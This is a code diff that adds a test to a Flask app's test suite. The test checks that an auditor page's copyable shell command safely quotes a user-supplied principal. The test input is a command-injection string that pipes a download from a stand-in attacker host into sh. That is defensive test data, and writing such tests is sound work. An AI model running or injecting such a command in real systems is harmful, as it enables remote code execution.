@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import itertools
 import re
+import shlex
 from collections.abc import Iterator
 from dataclasses import replace
 from html import unescape
@@ -157,3 +158,12 @@ def test_a_place_without_a_field_adds_nothing(app: Flask) -> None:
     with app.test_request_context():
         assert field_errors(replace(refusal, errors=[{"pointer": "/x", "code": "missing"}])) == {}
         assert said(replace(refusal, code="other", errors=[{"pointer": "/x", "code": "missing"}])) == refusal.title
+
+
+def test_a_command_to_copy_has_the_person_as_one_word_of_a_shell(searching: Work) -> None:
+    person = "staff/e1; curl evil.example|sh #"
+
+    page = searching.browser("auditor").get("/audit", query_string={"principal": person}).text
+
+    (line,) = re.findall(r"waybill-masking audit incident .+", unescape(page))
+    assert shlex.split(line)[:5] == ["waybill-masking", "audit", "incident", "--principal", person]
